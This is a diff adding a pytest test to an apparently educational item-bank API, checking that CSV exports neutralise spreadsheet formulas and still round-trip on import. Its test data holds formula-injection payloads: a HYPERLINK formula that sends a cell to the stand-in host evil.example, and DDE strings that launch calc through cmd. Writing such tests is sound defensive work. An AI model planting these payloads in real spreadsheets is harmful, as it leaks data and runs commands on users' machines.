@@ -3,13 +3,15 @@
 Item and standard imports (CSV and JSON), students, and every id in a path
 or a query: NUL and other control characters, values longer than their
 columns, binary files, mixed line endings, wrong JSON types, integers beyond
-the database's range.  Each is a 4xx whose message names the problem, and
+the database's range; and exported CSV cells that a spreadsheet would run.  Each is a 4xx whose message names the problem, and
 nothing is written; the same on both databases (PostgreSQL refused NUL and
 over-long values with a 500, SQLite stored them).
 """
 
 from __future__ import annotations
 
+import csv
+import io
 import json
 
 import pytest
@@ -195,3 +197,38 @@ def test_ids_and_offsets_out_of_range_are_4xx(client, world, as_user, url):
     r = client.get(f"{P}{url}", headers=as_user("admin"))
     assert r.status_code in (404, 422), (url, r.status_code, r.text)
     assert r.json()["detail"]
+
+
+def test_exported_csv_cells_never_run_as_formulas_and_round_trip(client, world, as_user):
+    h = as_user("psychometrician")
+    formula = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
+    made = client.post(
+        f"{P}/items",
+        json={
+            "id": "F1",
+            "stem": formula,
+            "interaction": "single_choice",
+            "choices": [{"id": "A", "text": "-3"}, {"id": "B", "text": "+cmd|' /C calc'!A0"}],
+            "key": "A",
+            "rationale": "@SUM(1+1)*cmd|' /C calc'!A0",
+            "objective": "7.RP.A.2",
+            "status": "operational",
+        },
+        headers=h,
+    )
+    assert made.status_code == 201, made.text
+    exported = client.get(f"{P}/items/export?format=csv", headers=h)
+    assert exported.status_code == 200
+    rows = {row[0]: row for row in csv.reader(io.StringIO(exported.text))}
+    header = rows["id"]
+    f1 = dict(zip(header, rows["F1"]))
+    assert f1["stem"] == "'" + formula
+    assert f1["rationale"].startswith("'@SUM")
+    assert f1["choice_A"] == "-3" and f1["choice_B"].startswith("'+cmd")
+    assert not any(cell.startswith(("=", "+", "@", "\t", "\r")) for row in rows.values() for cell in row)
+    before = client.get(f"{P}/items/F1", headers=h).json()
+    again = client.post(
+        f"{P}/items/import", files={"file": ("items.csv", exported.text.encode())}, headers=as_user("admin")
+    )
+    assert again.status_code == 200, again.text
+    assert client.get(f"{P}/items/F1", headers=h).json() == before
